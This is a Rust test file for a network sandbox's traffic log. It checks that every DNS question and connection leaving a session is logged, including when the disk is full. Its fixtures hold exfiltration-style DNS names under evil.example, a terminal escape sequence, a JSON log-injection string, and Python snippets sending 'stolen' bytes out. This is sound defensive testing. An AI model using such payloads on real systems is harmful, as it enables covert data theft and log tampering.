//! Traffic that no line of the log shows (P14).

use std::collections::HashSet;
use std::fs;
use std::net::UdpSocket;

use serde_json::Value;
use stockade_world::{PATIENCE, Site, Standard, eventually, test};

use super::ask::{A, SERVER, by_tcp, by_udp, query, query_of, wire};
use super::probe::INSIDE;
use super::say::Speaker;
use crate::log::{
    disk::{disk, fill, small_disk},
    lines, lines_in, of,
};
use crate::support::standard;

/// Names that no host has, and how the log writes them.
const ODD: [(&[&[u8]], &str); 7] = [
    (
        &[b"secret \x1b[2J", b"evil", b"example"],
        r"secret\032\027\0912j.evil.example",
    ),
    (
        &[b"stolen\0", b"evil", b"example"],
        r"stolen\000.evil.example",
    ),
    (&[b"a.b", b"evil", b"example"], r"a\046b.evil.example"),
    (
        &[b"line\nbreak\r", b"evil", b"example"],
        r"line\010break\013.evil.example",
    ),
    (
        &[b"\xff\xfe\x80", b"evil", b"example"],
        r"\255\254\128.evil.example",
    ),
    (
        &[b"\"},{\"event\":\"end", b"example"],
        r#"\034\125\044\123\034event\034\058\034end.example"#,
    ),
    (&[], "."),
];

fn asked(lines: &[Value]) -> Vec<&str> {
    let names = of(lines, "name").into_iter();
    names.filter_map(|line| line["name"].as_str()).collect()
}

/// The class of a question has 16 bits that no line shows.
#[test]
fn p14_questions_of_other_classes_do_not_leave() {
    const CLASS: usize = 32;
    let of_class = |class: u8| {
        let mut question = query("www.example.com", A);
        assert_eq!(question[CLASS - 1..=CLASS], [0, 1]);
        question[CLASS] = class;
        question
    };
    test(&standard(), |world| {
        let mut speaker = Speaker::start(INSIDE, world.laptop());
        for class in [3, 77] {
            for question in [by_udp, by_tcp].map(|by| by(SERVER, &of_class(class))) {
                let answer = speaker.say_one(&question);
                assert!(!answer.bytes().is_empty(), "{question:?}");
            }
        }
        assert_eq!(world.dns().queries().count(), 0);
        speaker.say_one(&by_udp(SERVER, &of_class(1)));
        speaker.end();
        assert!(world.dns().queries().count() > 0, "positive control");
    });
}

#[test]
fn p14_every_question_that_leaves_is_in_the_log_whatever_its_bytes() {
    test(&standard(), |world| {
        let mut speaker = Speaker::start(INSIDE, world.laptop());
        let questions = ODD.map(|(labels, _)| query_of(&wire(labels), A));
        let sayings: Vec<_> = [&questions[..], &[query("www.example.com", A)]]
            .concat()
            .iter()
            .flat_map(|question| [by_udp(SERVER, question), by_tcp(SERVER, question)])
            .collect();
        speaker.say(&sayings);
        speaker.end();
        // They did leave.
        let left = world.dns().queries().count();
        assert!(left > ODD.len(), "{left}");
        let lines = lines(world.laptop());
        let names = asked(&lines);
        for (_, written) in ODD.iter().chain(&[(&[][..], "www.example.com")]) {
            let times = names.iter().filter(|name| name == &written).count();
            assert_eq!(times, 2, "{written}: {names:?}");
        }
        let answered = |line: &&Value| line["name"] == "www.example.com";
        let found = of(&lines, "name")
            .into_iter()
            .find(answered)
            .expect("a line");
        assert_eq!(found["addresses"][0], world.host("web").v4().to_string());
        let shown = world.laptop().stockade(["log"]).run().expect("run");
        assert!(
            shown.stdout().contains(r"stolen\000.evil.example A"),
            "{shown:?}"
        );
        assert!(!shown.stdout().contains('\x1b'), "{shown:?}");
    });
}

/// Asks, and ends the session when the question has left.
const ASK_AND_END: &str = r#"
import socket, sys
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.sendto(bytes.fromhex(sys.argv[1]), ("192.0.2.53", 53))
print("asked", flush=True)
sys.stdin.readline()
"#;

#[test]
fn p14_a_question_that_is_open_when_the_session_ends_is_in_the_log() {
    test(&standard(), |world| {
        let resolver = world.host("mirror").v4();
        let silent = world.host("mirror").enter(move || {
            let socket = UdpSocket::bind((resolver, 53)).expect("listen");
            socket.set_read_timeout(Some(PATIENCE)).expect("a limit");
            socket
        });
        let configuration = format!("nameserver {resolver}\n");
        world
            .laptop()
            .write_etc("resolv.conf", &configuration)
            .expect("write");
        let hex = |bytes: &[u8]| {
            bytes
                .iter()
                .map(|byte| format!("{byte:02x}"))
                .collect::<String>()
        };
        // One that the test waits for until it has left, and one with which the session ends.
        for (name, wait) in [
            ("stolen-1.evil.example", true),
            ("stolen-2.evil.example", false),
        ] {
            let mut session = INSIDE
                .python(world.laptop(), ASK_AND_END)
                .arg(hex(&query(name, A)))
                .spawn()
                .expect("a session");
            session.expect("asked").expect("a question");
            if wait {
                silent.recv(&mut [0; 512]).expect("the question");
            }
            session.write("end\n").expect("end");
            session.wait().expect("an end").expect_success();
            if !wait {
                silent.recv(&mut [0; 512]).expect("the question");
            }
            let lines = lines(world.laptop());
            assert_eq!(asked(&lines), [name]);
            assert!(of(&lines, "name")[0]["addresses"].is_null());
            assert_eq!(lines.last().expect("a line")["event"], "end");
            let shown = world.laptop().stockade(["log"]).run().expect("run");
            assert!(
                shown.stdout().contains(&format!("{name} A: no answer")),
                "{shown:?}"
            );
        }
    });
}

#[test]
fn p14_connections_between_the_two_loopbacks_are_in_the_log() {
    const SERVER: &str = "
import socket
listener = socket.create_server(('127.0.0.1', 8000))
print('listening', flush=True)
peer, _ = listener.accept()
peer.recv(64)
peer.sendall(b'from inside')
peer.close()
print(socket.create_connection(('127.0.0.1', 5432)).recv(64), flush=True)
";
    test(&standard(), |world| {
        let _net = Standard::serve(world).expect("servers");
        let laptop = world.laptop();
        let _database = laptop
            .tcp_banner("127.0.0.1:5432", b"database")
            .expect("listen");
        let _site = laptop
            .http("127.0.0.1:5433", Site::text(""))
            .expect("listen");
        let options = ["run", "--host-port", "5432", "--host-port", "5433"];
        let session = laptop
            .stockade(options)
            .args(["--publish", "3000:8000", "--", "python3", "-c", SERVER])
            .spawn()
            .expect("a session");
        session.expect("listening").expect("a server inside");
        let ask = "import socket
peer = socket.create_connection(('127.0.0.1', 3000))
peer.sendall(b'hello')
print(peer.recv(64))";
        let asked = laptop
            .command("python3")
            .args(["-c", ask])
            .run()
            .expect("run");
        assert_eq!(asked.expect_success().stdout(), "b'from inside'\n");
        session.expect("database").expect("an answer of the host");
        session.wait().expect("an end").expect_success();

        let lines = lines(laptop);
        let told: Vec<_> = of(&lines, "open")
            .into_iter()
            .map(|line| {
                let field = |name: &str| line[name].as_str().expect("a field").to_owned();
                [field("reason"), field("to"), field("at")]
            })
            .collect();
        assert_eq!(
            told,
            [
                ["published", "tcp://127.0.0.1:8000", "--publish"],
                ["host-port", "tcp://127.0.0.1:5432", "--host-port"],
            ]
        );
        let open = of(&lines, "open");
        assert_eq!(open[0]["by"], "publish, from port 3000 of this machine");
        assert!(open[0]["process"].is_null());
        let mut closed = of(&lines, "close");
        closed.sort_by_key(|line| line["flow"].as_u64());
        let bytes = |line: &Value| {
            [&line["sent"], &line["received"]].map(|n| n.as_u64().expect("a number"))
        };
        assert_eq!(bytes(closed[0]), [11, 5]);
        assert_eq!(bytes(closed[1]), [0, 8]);
    });
}

/// Connects, once for each line that it reads, and says whether it got an answer.
const CONNECT: &str = r#"
import socket, sys
for line in sys.stdin:
    peer = socket.socket()
    peer.settimeout(5)
    try:
        peer.connect(("93.184.216.34", 7))
        peer.send(b"stolen")
        print("answer" if peer.recv(6) else "end", flush=True)
    except OSError as error:
        print("error", error.errno, flush=True)
    peer.close()
"#;

#[test]
fn p14_nothing_passes_that_a_full_disk_keeps_from_the_log() {
    test(&standard(), |world| {
        let net = Standard::serve(world).expect("servers");
        let laptop = world.laptop();
        let disk = small_disk(laptop);
        let mut session = laptop
            .stockade(["run", "--", "python3", "-c", CONNECT])
            .env("XDG_STATE_HOME", &disk)
            .spawn()
            .expect("a session");
        let mut connect = || {
            session.write("go\n").expect("go");
            session.expect("\n").expect("an outcome")
        };
        assert!(connect().contains("answer"), "positive control");
        fill(&disk);
        let outcomes: Vec<_> = (0..200).map(|_| connect()).collect();
        let passed = 1 + outcomes.iter().filter(|it| it.contains("answer")).count();
        assert!(outcomes.last().expect("some").contains("error 113"));
        assert_eq!(net.web_echo.connections().count(), passed);
        let told = |lines: &[Value]| of(lines, "open").len();
        let logs = disk.join("stockade/sessions");
        assert_eq!(told(&lines_in(&logs)), passed);

        fs::remove_file(disk.join("filler")).expect("room");
        eventually("there is room again", PATIENCE, || {
            connect().contains("answer")
        })
        .expect("it goes on");
        let output = session.wait().expect("an end").expect_success();
        let said = output.stderr();
        assert!(said.contains("did not pass although"), "{said}");
        let lines = lines_in(&logs);
        assert_eq!(told(&lines), net.web_echo.connections().count());
        assert!(
            of(&lines, "lost").iter().any(|line| {
                let why = line["why"].as_str().expect("why");
                why.contains("no room for them")
            }),
            "{lines:?}"
        );
    });
}

/// Gives one address as many of the longest names as it can have. Then, when it is told to, begins flows
/// that stay open, and waits until nothing more becomes of them.
const LONG_LINES: &str = r#"
import resource, select, socket, sys, time
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
for number in range(32):
    below = ".pages.example.com"
    labels = ["x" * 63, "y" * 63, "z" * 63, "%03d" % number + "w" * (253 - 192 - len(below) - 3)]
    socket.gethostbyname(".".join(labels) + below)
flows = {}
outcomes = select.poll()
def begin():
    flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flow.connect(("93.184.216.34", 7))
    flow.send(b"stolen")
    flows[flow.fileno()] = flow
    outcomes.register(flow, select.POLLIN)
def wait(milliseconds):
    answers = 0
    while ready := outcomes.poll(milliseconds):
        for descriptor, _ in ready:
            outcomes.unregister(descriptor)
            try:
                answers += len(flows[descriptor].recv(6)) > 0
            except OSError:
                pass
        if len(flows) == 1:
            break
    return answers
begin()
print("answers:", wait(20000), flush=True)
for line in sys.stdin:
    for number in range(int(line)):
        begin()
        if number % 20 == 0:
            time.sleep(0.004)
    print("more answers:", wait(5000), flush=True)
"#;

#[test]
fn p14_long_lines_on_a_full_disk_keep_no_flow_from_the_log() {
    test(&standard(), |world| {
        let net = Standard::serve(world).expect("servers");
        let laptop = world.laptop();
        let disk = disk(laptop, c"size=20m,mode=0777");
        let mut session = laptop
            .stockade(["run", "--", "python3", "-c", LONG_LINES])
            .env("XDG_STATE_HOME", &disk)
            .spawn()
            .expect("a session");
        session.expect("answers: 1").expect("positive control");
        fill(&disk);
        session.write("3000\n").expect("go");
        session.expect("more answers").expect("an outcome");
        let output = session.wait().expect("an end").expect_success();
        let said = output.stderr();
        let datagrams = net.web_udp_echo.datagrams().all();
        let passed: HashSet<_> = datagrams.iter().map(|it| it.peer).collect();
        let lines = lines_in(&disk.join("stockade/sessions"));
        let opened = of(&lines, "open");
        // The server may lose some, and none passes without a line.
        assert!(passed.len() <= opened.len(), "{said}");
        // Many had room, and some had none.
        assert!(passed.len() > 100, "{}: {said}", passed.len());
        assert!(said.contains("did not pass although"), "{said}");
        // Lines were as long as the program could make them.
        assert!(opened.iter().all(|line| line["more_names"] == 31));
        let ids = |event| -> HashSet<_> {
            let lines = of(&lines, event).into_iter();
            lines.map(|line| line["flow"].as_u64()).collect()
        };
        assert_eq!(ids("open"), ids("close"), "{said}");
        let sent = |line: &&Value| line["sent"] == 6;
        assert!(of(&lines, "close").iter().all(sent));
        assert_eq!(lines.last().expect("a line")["event"], "end");
    });
}
